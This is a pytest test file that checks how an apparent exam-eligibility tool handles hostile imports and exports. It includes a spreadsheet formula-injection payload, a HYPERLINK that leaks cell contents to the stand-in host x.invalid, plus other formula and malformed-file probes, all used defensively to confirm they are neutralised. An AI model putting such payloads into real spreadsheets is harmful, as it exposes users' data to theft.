"""Hostile and clumsy files (issue 15): each is refused with a Chinese message naming its place — or accepted
and exported cleanly — with exit status 1 or 2 from the command line, no traceback, the database unchanged;
no spreadsheet the desk writes carries user text as a formula."""

from __future__ import annotations

import json
import re
import subprocess
import sys
import zipfile
from datetime import date
from pathlib import Path

import pytest

from eligibility_desk.cli import main
from eligibility_desk.domain.sheet_cells import row as safe_row
from eligibility_desk.services.records.desk import Desk
from tests.services.helpers import roster, write_workbook
from tests.account_helpers import ADMIN, actor, add_accounts

ROOT = Path(__file__).resolve().parents[3]
HYPERLINK = '=HYPERLINK("http://x.invalid/?leak="&A1,"点我")'
IMPORT = ["import", "--batch", "秋季", "--standard", "4-07-02-06", "--as-of", "2025-09-01"]


@pytest.fixture
def desk(tmp_path):
    d = Desk.open(f"sqlite:///{tmp_path / 'hostile.sqlite3'}", actor("测试员"))
    yield d
    d.close()


@pytest.fixture
def batch_id(desk):
    return desk.create_batch("秋季", "4-07-02-06", ["4", "3"], date(2025, 9, 1))


def formulas_in(path) -> list[str]:
    """Every ``<f>`` element in every sheet of a written .xlsx."""
    with zipfile.ZipFile(path) as archive:
        return [name for name in archive.namelist() if name.startswith("xl/worksheets/")
                and re.search(rb"<(\w+:)?f[ >/]", archive.read(name))]


def text_workbook(path, sheets: dict[str, list[list]]) -> None:
    """Like ``write_workbook`` but every string is a typed text cell (a name may start with ``=``)."""
    from openpyxl import Workbook

    from eligibility_desk.services.records.import_layout import BY_NAME

    wb = Workbook()
    wb.remove(wb.active)
    for name, rows in sheets.items():
        ws = wb.create_sheet(name)
        ws.append([c.header for c in BY_NAME[name].columns])
        for cells in rows:
            ws.append(safe_row(ws, cells))
    wb.save(path)


def nothing_written(desk) -> bool:
    return desk.applicant_rows() == [] and all(b.applications == 0 for b in desk.batches())


NO_DATABASE = ("results",)


def cli(tmp_path, *args) -> subprocess.CompletedProcess:
    """The command line in its own process: a crash (SIGABRT) or a traceback cannot hide."""
    code = "import sys; from eligibility_desk.cli import main; sys.exit(main(sys.argv[1:]))"
    url = f"sqlite:///{tmp_path / 'cli.sqlite3'}"
    add_accounts(url)                    # the command signs in as ADMIN ($ELIGIBILITY_DESK_PASSWORD is inherited)
    who = [] if args[0] in NO_DATABASE else ["--user", ADMIN]
    return subprocess.run([sys.executable, "-c", code, "--db", url, *args, *who],
                          cwd=ROOT, capture_output=True, text=True, timeout=120)


# --- readers bounded by the data present ----------------------------------------------------------------

@pytest.mark.parametrize("far_cell,code", [("XFD1048576", "too_many_columns"), ("ZZ1000000", "too_many_columns"),
                                           ("BL1048576", "area_too_large")])
def test_a_far_away_cell_is_refused_unread_without_a_crash(tmp_path, far_cell, code):
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = "考生"
    ws.append(["身份证号码", "姓名"])
    ws[far_cell] = "x"
    path = tmp_path / "远.xlsx"
    wb.save(path)
    assert path.stat().st_size < 20_000

    done = cli(tmp_path, *IMPORT[:1], str(path), *IMPORT[1:])
    assert done.returncode == 1, done.stderr[-2000:]
    assert "Traceback" not in done.stderr
    message = {"too_many_columns": "列数过多", "area_too_large": "数据区域过大"}[code]
    assert f"考生 第 1 行：{message}" in done.stderr
    listed = cli(tmp_path, "batches")
    assert "尚无考试批次" in listed.stdout


def test_the_sheet_scan_agrees_with_the_careful_parse(tmp_path, monkeypatch):
    from eligibility_desk.services.records import xlsx_scan

    monkeypatch.setattr(xlsx_scan, "PIECE_BYTES", 97)  # the XML in many small pieces, cut anywhere
    people, work = roster(30)
    path = tmp_path / "a.xlsx"
    write_workbook(path, {"考生": people, "工作经历": work})
    with zipfile.ZipFile(path) as archive:
        parts = xlsx_scan.sheet_parts(archive)
        for name in ("考生", "工作经历"):
            data = archive.read(parts[name])
            quick = xlsx_scan.scan_sheet(archive, parts[name])
            careful = xlsx_scan._careful(data)
            from eligibility_desk.services.records.import_layout import BY_NAME

            width = len(BY_NAME[name].columns)      # the template's headers (考生 has 照片 after 联系电话)
            assert (quick.first_row, quick.last_row, quick.columns) == (careful.first_row, careful.last_row,
                                                                        careful.columns) == (1, 31, width)


def test_a_formula_cell_is_reported_as_a_formula_not_as_missing(desk, batch_id, tmp_path):
    people, work = roster(3)
    people[1][1] = '=A3&"x"'   # openpyxl writes a formula with no cached value: calamine reads it as empty
    path = tmp_path / "公式.xlsx"
    write_workbook(path, {"考生": people, "工作经历": work})
    report = desk.import_file(path, batch_id)
    assert [(p.sheet, p.row, p.column, p.code) for p in report.problems] == [("考生", 3, "姓名*", "formula")]
    assert report.problems[0].value == '=A3&"x"' and "公式" in report.problems[0].message("zh")
    assert nothing_written(desk)


def test_xls_and_ods_are_refused_with_advice(desk, batch_id, tmp_path):
    from eligibility_desk.services.records.importing import ImportFormatError

    for suffix in (".xls", ".ods"):
        (tmp_path / f"a{suffix}").write_bytes(b"whatever")
        with pytest.raises(ImportFormatError, match="另存为 .xlsx"):
            desk.import_file(tmp_path / f"a{suffix}", batch_id)


# --- the text policy ------------------------------------------------------------------------------------

@pytest.mark.parametrize("name,code", [
    ("张\x00三", "control_character"), ("张\x1b[31m三", "control_character"), ("张\x07三", "control_character"),
    ("张三\u202e", "invisible_character"), ("张\u200b三", "invisible_character"), ("张\u2028三", "invisible_character"),
    ("张" * 32_767, "too_long"),
])
@pytest.mark.parametrize("kind", ["csv", "json", "xlsx"])
def test_bad_text_in_a_name_is_refused_with_the_cell_named(desk, batch_id, tmp_path, name, code, kind):
    people, work = roster(2)
    people[1][1] = name
    if kind == "csv":
        path = tmp_path / "名单.csv"
        path.write_text("身份证号码,姓名\n" + "".join(f'{p[0]},"{p[1]}"\n' for p in people), encoding="utf-8")
        place = ("名单.csv", 3, "姓名")
    elif kind == "json":
        path = tmp_path / "名单.json"
        path.write_text(json.dumps({"applicants": [{"id": f"A{i}", "name": p[1], "id_number": p[0]}
                                                   for i, p in enumerate(people)]}), encoding="utf-8")
        place = ("名单.json", 2, "name")
    else:
        if code == "control_character":
            pytest.skip("an .xlsx cannot hold C0 control characters (openpyxl refuses to write them)")
        path = tmp_path / "名单.xlsx"
        text_workbook(path, {"考生": people})
        place = ("考生", 3, "姓名")
    report = desk.import_file(path, batch_id)
    assert [(p.sheet, p.row, p.column, p.code) for p in report.problems] == [(*place, code)]
    shown = report.problems[0].describe("zh")
    assert "\x00" not in shown and "\x1b" not in shown and "\u202e" not in shown and len(shown) < 400
    assert nothing_written(desk)


def test_a_json_name_given_as_a_number_is_refused_not_made_text(desk, batch_id, tmp_path):
    people, _ = roster(1)
    path = tmp_path / "a.json"
    path.write_text(json.dumps({"applicants": [{"id": "A1", "name": 12345, "id_number": people[0][0]}]}))
    report = desk.import_file(path, batch_id)
    assert [(p.row, p.column, p.code) for p in report.problems] == [(1, "name", "not_text")]
    assert nothing_written(desk)


def test_spaces_at_the_ends_are_trimmed_and_inner_full_width_spaces_kept(desk, batch_id, tmp_path):
    people, work = roster(1)
    people[0][1] = "\u3000阿卜杜拉\u3000艾合买提 \t"
    path = tmp_path / "a.xlsx"
    write_workbook(path, {"考生": people, "工作经历": work})
    assert desk.import_file(path, batch_id).ok
    assert desk.applicant_rows()[0].name == "阿卜杜拉\u3000艾合买提"


@pytest.mark.parametrize("cell,code", [(date(1900, 5, 2), "date_too_early"), (123, "not_a_date"),
                                       ("1900-05-02", "date_too_early")])
def test_excel_serials_count_from_10000_in_every_form(desk, batch_id, tmp_path, cell, code):
    people, work = roster(1)
    work[0][3] = cell   # a date cell holding serial 123 is 1900-05-02 to Excel
    path = tmp_path / "a.xlsx"
    write_workbook(path, {"考生": people, "工作经历": work})
    report = desk.import_file(path, batch_id)
    assert [(p.sheet, p.row, p.column, p.code) for p in report.problems] == [("工作经历", 2, "开始日期*", code)]


# --- CSV ------------------------------------------------------------------------------------------------

def test_csv_quoted_line_breaks_are_kept_and_rows_count_records(desk, batch_id, tmp_path):
    people, _ = roster(3)
    path = tmp_path / "名单.csv"
    lines = ["身份证号码,姓名,备注"]
    lines.append(f'{people[0][0]},{people[0][1]},"第一行\n第二行\r\n第三行"')
    lines.append(f'{people[1][0]},"张\u2028三",')      # U+2028 is text to the csv module, not a line end
    lines.append(f'{people[2][0]},"李\f四",')
    path.write_text("\r\n".join(lines) + "\r\n", encoding="utf-8")
    report = desk.import_file(path, batch_id)
    assert [(p.row, p.column, p.code) for p in report.problems] == [(3, "姓名", "invisible_character"),
                                                                    (4, "姓名", "control_character")]


def test_csv_with_quoted_line_breaks_in_an_unread_column_imports(desk, batch_id, tmp_path):
    people, _ = roster(2)
    path = tmp_path / "名单.csv"
    path.write_text("身份证号码,姓名,备注\n" + "".join(f'{p[0]},{p[1]},"多行\n备注"\n' for p in people), encoding="utf-8")
    report = desk.import_file(path, batch_id)
    assert report.ok and report.created == 2


def test_an_empty_csv_says_so(tmp_path):
    path = tmp_path / "空.csv"
    path.write_bytes(b"")
    done = cli(tmp_path, *IMPORT[:1], str(path), *IMPORT[1:])
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert "空.csv 第 1 行：文件是空的" in done.stderr and "第 0 行" not in done.stderr and "「」" not in done.stderr


def test_a_csv_field_over_the_csv_limit_is_a_message(desk, batch_id, tmp_path):
    people, _ = roster(2)
    path = tmp_path / "名单.csv"
    path.write_text(f"身份证号码,姓名\n{people[0][0]},张三\n{people[1][0]},\"{'长' * 140_000}\"\n", encoding="utf-8")
    report = desk.import_file(path, batch_id)
    assert [(p.sheet, p.row, p.code) for p in report.problems] == [("名单.csv", 3, "cell_too_long")]
    assert nothing_written(desk)


@pytest.mark.parametrize("where", ["考生", "工作经历"])
def test_a_csv_refused_part_way_is_refused_whole_as_before(desk, batch_id, tmp_path, where):
    """The rows are checked as the file is read (1,000,000 rows are never held whole); a record the reader
    refuses further down still refuses the whole file with that one message, not the rows' problems met
    before it (and a sibling file's refusal is listed even when the 考生 file is refused too)."""
    people, work = roster(30)
    people[3][1] = "张\u202e三"                      # a problem the checks would report
    path = tmp_path / "名单.csv"
    rows = [f"{p[0]},{p[1]}" for p in people]
    jobs = [f"{w[0]},{w[1]},{w[3]}" for w in work]
    jobs[2] = f"{work[2][0]},{work[2][1]},2019-13-01"  # and one in the sibling file
    if where == "考生":
        rows[25] = rows[25] + "," * 70                 # 71 columns on row 27
    else:
        jobs[20] = f'{work[20][0]},"{"长" * 140_000}",2019-01-01'
    path.write_text("身份证号码,姓名\n" + "\n".join(rows) + "\n", encoding="utf-8")
    (tmp_path / "名单-工作经历.csv").write_text("身份证号码,职业（工种）,开始日期\n" + "\n".join(jobs) + "\n",
                                                encoding="utf-8")
    report = desk.import_file(path, batch_id)
    found = [(p.sheet, p.row, p.code) for p in report.problems]
    if where == "考生":
        assert found == [("名单.csv", 27, "too_many_columns")]
    else:
        assert found == [("名单.csv", 5, "invisible_character"), ("名单-工作经历.csv", 22, "cell_too_long")]
    assert nothing_written(desk)


# --- JSON -----------------------------------------------------------------------------------------------

def test_json_nested_200000_deep_is_a_message(tmp_path):
    path = tmp_path / "深.json"
    path.write_text('{"applicants": ' + "[" * 200_000 + "]" * 200_000 + "}")
    done = cli(tmp_path, *IMPORT[:1], str(path), *IMPORT[1:])
    assert done.returncode == 2 and "Traceback" not in done.stderr and "嵌套过深" in done.stderr


# --- what the desk writes -------------------------------------------------------------------------------

def test_a_formula_like_name_is_exported_as_text(tmp_path, capsys):
    db = f"sqlite:///{tmp_path / 'cli.sqlite3'}"
    add_accounts(db)
    people, work = roster(3)
    people[0][1] = HYPERLINK
    people[1][1] = "+86-1380000"
    people[2][1] = "@SUM(A1)"
    path = tmp_path / "名单.xlsx"
    text_workbook(path, {"考生": people, "工作经历": work})
    assert main(["--db", db, *IMPORT[:1], str(path), *IMPORT[1:], "--user", ADMIN]) == 0
    assert main(["--db", db, "screen-batch", "--batch", "秋季", "--user", ADMIN]) == 0
    out = tmp_path / "结果.xlsx"
    assert main(["--db", db, "export", "--batch", "秋季", str(out), "--user", ADMIN]) == 0
    assert formulas_in(out) == []
    from openpyxl import load_workbook

    ws = load_workbook(out)["审核结果"]
    names = {r[1]: ws.cell(row=i, column=2) for i, r in enumerate(ws.iter_rows(values_only=True), start=1)}
    assert {HYPERLINK, "+86-1380000", "@SUM(A1)"} <= set(names)
    assert names[HYPERLINK].data_type == "s" and names[HYPERLINK].quotePrefix


def test_the_problem_report_of_a_refused_import_has_no_formula(desk, batch_id, tmp_path):
    people, work = roster(2)
    people[0][1] = HYPERLINK
    people[1][0] = "=1+1"           # and a bad ID number that looks like a formula
    path = tmp_path / "名单.xlsx"
    text_workbook(path, {"考生": people, "工作经历": work[:1]})
    report = desk.import_file(path, batch_id)
    assert not report.ok and report.problem_report
    assert formulas_in(report.problem_report) == []
    from openpyxl import load_workbook

    copy = load_workbook(report.problem_report)["考生"]
    assert copy["B2"].value == HYPERLINK and copy["A3"].value == "=1+1"
    assert nothing_written(desk)


def test_names_with_control_characters_already_stored_do_not_break_the_export(desk, batch_id, tmp_path):
    from eligibility_desk.services.records.importing import import_applicants
    from tests.services.helpers import person

    # a record stored before the text policy, written straight past the checks
    import_applicants(desk.db, [person("A1", "张\x00\x1b\x07三")], batch_id, "旧版本")
    out = tmp_path / "结果.xlsx"
    summary = desk.export_batch(batch_id, out)
    assert summary.rows == 2 and formulas_in(out) == []
    from openpyxl import load_workbook

    assert load_workbook(out)["审核结果"]["B2"].value == "张\ufffd\ufffd\ufffd三"


def test_score_sheets_and_the_template_hold_no_formula(tmp_path):
    from eligibility_desk.rules_engine import RuleLibrary
    from eligibility_desk.scoring import evaluate_many, scoring_rules
    from eligibility_desk.scoring.xlsx_export import export_results_xlsx
    from eligibility_desk.services.records.template import write_template

    rules = scoring_rules(RuleLibrary.load().get("4-07-02-06"))
    results = evaluate_many([("=1+2", "4", {})], rules)
    out = export_results_xlsx(tmp_path / "成绩.xlsx", results, rules, names={"=1+2": HYPERLINK})
    assert formulas_in(out) == []
    assert formulas_in(write_template(tmp_path / "模板.xlsx")) == []
    from eligibility_desk.planning.xlsx_template import write_resources_template

    assert formulas_in(write_resources_template(tmp_path / "资源模板.xlsx")) == []


def test_the_cell_helper_writes_text_in_normal_and_write_only_workbooks(tmp_path):
    from openpyxl import Workbook, load_workbook

    from eligibility_desk.domain.sheet_cells import put, sheet_title

    risky = [HYPERLINK, "+1", "-1", "@A1", "\t=1", "\r=1", "#N/A", "＝1+1", "普通"]
    for write_only in (False, True):
        wb = Workbook(write_only=write_only)
        ws = wb.create_sheet(sheet_title("a[1]:b?"))
        ws.append(safe_row(ws, risky))
        if not write_only:
            put(ws, 2, 1, "=2+2")
        path = tmp_path / f"w{write_only}.xlsx"
        wb.save(path)
        assert formulas_in(path) == []
        back = load_workbook(path)["a_1__b_"]
        # XML turns a bare CR into LF when read back; everything else comes back as written, as text
        assert [c.value for c in back[1]] == [v.replace("\r", "\n") for v in risky]
        assert {c.data_type for c in back[1]} == {"s"}
        assert [c.quotePrefix for c in back[1]] == [True] * 6 + [False, True, False]


# --- results --------------------------------------------------------------------------------------------

@pytest.mark.parametrize("record,expected", [
    ({"theory": "SCORE", "skill": 80}, "too_many_decimals"),
    ({"theory": 80, "skill": 80, "Theory": 70}, "「Theory」"),
    ({"theory": 80, "skil": 80}, "「skil」"),
    ({"theory": 80, "disqualified": ["skill"]}, "违纪须填写说明"),
])
def test_results_refuses_what_it_cannot_read_exactly(tmp_path, record, expected):
    path = tmp_path / "scores.json"
    text = json.dumps({"scores": [{"candidate": "C1", "level": "4", **record}]})
    path.write_text(text.replace('"SCORE"', "59.99999999999999999"))
    done = cli(tmp_path, "results", str(path), "--standard", "4-07-02-06")
    assert done.returncode == 1 and "Traceback" not in done.stderr and done.stdout == ""
    if expected == "too_many_decimals":
        assert "59.99999999999999999" in done.stderr and "小数" in done.stderr
    else:
        assert expected in done.stderr


def test_results_with_a_noted_disqualification_and_exact_scores_pass(tmp_path):
    path = tmp_path / "scores.json"
    path.write_text('{"scores": [{"candidate": "C1", "level": "4", "theory": 60.0, "skill": 59.9},'
                    ' {"candidate": "C2", "level": "4", "theory": 80, "disqualified": [{"part": "skill", "note": "携带手机"}]}]}')
    done = cli(tmp_path, "results", str(path), "--standard", "4-07-02-06")
    assert done.returncode == 0, done.stderr
    results = json.loads(done.stdout)["results"]
    assert [r["outcome"] for r in results] == ["fail", "fail"]
    assert results[0]["parts"]["theory"] == {"score": 60, "passed": True}


def _rewrite_sheet(path, new_path, change) -> None:
    """A copy of the workbook with its first sheet's XML passed through ``change``."""
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(new_path, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = change(data)
            target.writestr(info, data)


@pytest.mark.parametrize("shape", ["attribute order", "no references", "namespace prefix"])
def test_an_unusual_sheet_xml_is_scanned_the_careful_way(desk, batch_id, tmp_path, shape):
    from eligibility_desk.services.records import xlsx_scan

    people, _ = roster(2)
    plain = tmp_path / "plain.xlsx"
    write_workbook(plain, {"考生": people})
    odd = tmp_path / "odd.xlsx"
    if shape == "attribute order":   # a far cell whose r is not the first attribute
        change = lambda xml: xml.replace(b"</sheetData>", b'<row r="9"><c t="str" r="XFD9"><v>x</v></c></row></sheetData>')
    elif shape == "no references":   # 70 cells without r: calamine counts positions
        change = lambda xml: xml.replace(b"</sheetData>", b"<row>" + b'<c t="str"><v>x</v></c>' * 70
                                         + b"</row></sheetData>")
    else:
        change = lambda xml: re.sub(rb"<(/?)(worksheet|sheetData|row|c|v|is|t)\b", rb"<\1x:\2", xml).replace(
            b'<x:worksheet xmlns="', b'<x:worksheet xmlns:x="').replace(
            b"</x:sheetData>", b'<x:row r="9"><x:c r="XFD9" t="str"><x:v>x</x:v></x:c></x:row></x:sheetData>')
    _rewrite_sheet(plain, odd, change)
    with zipfile.ZipFile(odd) as archive:
        scan = xlsx_scan.scan_sheet(archive, xlsx_scan.sheet_parts(archive)["考生"])
    assert scan.columns == (70 if shape == "no references" else 16384)
    report = desk.import_file(odd, batch_id)
    assert [(p.sheet, p.code) for p in report.problems] == [("考生", "too_many_columns")]
    assert nothing_written(desk)


@pytest.mark.parametrize("hiding", [b"<!-- %s -->", b"<![CDATA[%s]]>", b"<?pi %s?>"])
def test_a_cell_written_inside_a_comment_does_not_hide_the_last_row(desk, batch_id, tmp_path, hiding):
    """Text that looks like a cell (in a comment, a CDATA section or a processing instruction) after the last
    real one: the quick scan would take its row as the last; the careful parse ignores it."""
    from eligibility_desk.services.records import xlsx_scan

    people, _ = roster(2)
    plain = tmp_path / "plain.xlsx"
    write_workbook(plain, {"考生": people})
    odd = tmp_path / "odd.xlsx"
    fake = hiding % b'<row r="4"><c r="A4"/></row>'
    _rewrite_sheet(plain, odd, lambda xml: xml.replace(
        b"</sheetData>", b'<row r="1048576"><c r="BL1048576" t="str"><v>x</v></c></row>' + fake + b"</sheetData>"))
    with zipfile.ZipFile(odd) as archive:
        scan = xlsx_scan.scan_sheet(archive, xlsx_scan.sheet_parts(archive)["考生"])
    assert (scan.first_row, scan.last_row, scan.columns) == (1, 1_048_576, 64)
    report = desk.import_file(odd, batch_id)
    assert [(p.sheet, p.code) for p in report.problems] == [("考生", "area_too_large")]
    assert nothing_written(desk)


def test_a_large_file_keeps_only_its_problem_rows_once_checked(desk, batch_id, tmp_path, monkeypatch):
    from openpyxl import load_workbook

    from eligibility_desk.services.records import import_rows, problem_report

    monkeypatch.setattr(import_rows, "FULL_COPY_ROWS", 10)
    monkeypatch.setattr(problem_report, "FULL_COPY_ROWS", 10)
    people, work = roster(30)
    people[20][1] = "张\u202e三"
    work[25][3] = "2019-13-01"
    path = tmp_path / "名单.csv"
    path.write_text("身份证号码,姓名\n" + "".join(f"{p[0]},{p[1]}\n" for p in people), encoding="utf-8")
    (tmp_path / "名单-工作经历.csv").write_text(
        "身份证号码,职业（工种）,开始日期\n" + "".join(f"{w[0]},{w[1]},{w[3]}\n" for w in work), encoding="utf-8")
    report = desk.import_file(path, batch_id)
    assert [(p.sheet, p.row, p.code) for p in report.problems] == [("名单.csv", 22, "invisible_character"),
                                                                   ("名单-工作经历.csv", 27, "not_a_date")]
    book = load_workbook(report.problem_report)
    assert book["名单.csv"]["B22"].value == "张\u202e三" and book["名单.csv"]["B21"].value is None
    assert book["名单-工作经历.csv"]["C27"].value == "2019-13-01"
    assert nothing_written(desk)


def test_a_sheet_whose_part_is_missing_is_a_message_not_a_traceback(desk, batch_id, tmp_path):
    """xl/workbook.xml names a sheet whose XML is not in the zip: refused as not a workbook (exit 2 in the
    CLI), as any other broken structure — the readers are shared out before the scan finds the part missing."""
    from eligibility_desk.services.records.importing import ImportFormatError

    people, work = roster(2)
    plain = tmp_path / "plain.xlsx"
    write_workbook(plain, {"考生": people, "工作经历": work})
    broken = tmp_path / "broken.xlsx"
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(broken, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename != "xl/worksheets/sheet2.xml":
                target.writestr(info, source.read(info))
    with pytest.raises(ImportFormatError, match="无法作为 .xlsx 工作簿读取"):
        desk.import_file(broken, batch_id)
    assert nothing_written(desk)
